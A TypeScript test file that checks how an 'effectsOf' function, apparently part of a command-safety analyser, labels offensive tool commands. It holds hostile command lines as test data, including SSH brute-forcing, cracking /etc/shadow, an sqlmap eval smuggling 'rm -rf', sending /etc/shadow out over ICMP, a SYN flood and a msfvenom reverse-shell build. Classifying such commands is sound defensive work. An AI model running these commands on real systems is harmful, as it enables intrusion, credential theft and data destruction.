import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  ['hydra -l root -P words.txt ssh://h', ['read:read words.txt', 'network:attack ssh://h external']],
  ['hydra -h', []],
  ['john /etc/shadow', ['read:read /etc/shadow sensitive', 'crypto:crack /etc/shadow']],
  [
    'hashcat -m 0 -o /etc/passwd hash words',
    ['write:overwrite /etc/passwd', 'read:read hash', 'read:read words', 'crypto:crack hash'],
  ],
  ['hashcat -b', []],
  ['nikto -host h.example', ['network:scan h.example external']],
  [
    'gobuster dir -u https://h.example -w words.txt',
    ['read:read words.txt', 'network:scan https://h.example external'],
  ],
  [
    'sqlmap -u http://h.example --eval \'import os; os.system("rm -rf /srv")\'',
    ['network:attack http://h.example external', 'delete:remove /srv recursive force'],
  ],
  [
    'hping3 h.example --icmp --file /etc/shadow',
    ['read:read /etc/shadow external sensitive', 'network:send external sensitive', 'network:probe h.example external'],
  ],
  ['hping3 --flood -S h.example', ['network:flood h.example external']],
  ['hping3 -c 1 h.example', ['network:probe h.example external']],
  ["msfconsole -x 'system rm -rf /srv'", ['delete:remove /srv recursive force', 'network:attack external']],
  [
    'msfvenom -p linux/x64/shell_reverse_tcp -o /tmp/x',
    ['write:overwrite /tmp/x', 'execute:build-payload linux/x64/shell_reverse_tcp'],
  ],
  ['responder -I eth0', ['network:attack external']],
  ['mimipenguin', ['crypto:list-secrets passwords sensitive']],
  ['mitmproxy -s addon.py', ['execute:load addon.py', 'network:intercept']],
  ['mitmdump -n -r flows', ['read:read flows']],
  ['airodump-ng wlan0', ['network:intercept wlan0']],
  ['airmon-ng', []],
];

describe('attack tools', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });
});
